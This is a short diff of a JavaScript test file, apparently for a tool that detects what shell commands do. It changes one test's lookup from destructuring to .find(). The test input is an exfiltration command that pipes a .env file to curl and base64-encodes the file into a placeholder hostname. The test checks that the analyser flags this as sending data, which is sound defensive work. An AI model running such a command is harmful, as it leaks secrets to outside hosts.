@@ -158,7 +158,7 @@ test('says which command sends what is read', () => {
 });
 
 test('a connection over which files flow sends data', () => {
-  const [connection] = effectsOf('cat .env | curl https://$(base64 .env).a.b').filter(({ kind }) => kind === 'connect');
+  const connection = effectsOf('cat .env | curl https://$(base64 .env).a.b').find(({ kind }) => kind === 'connect');
   expect(connection).toMatchObject({ sendsData: 'certain' });
 });
 
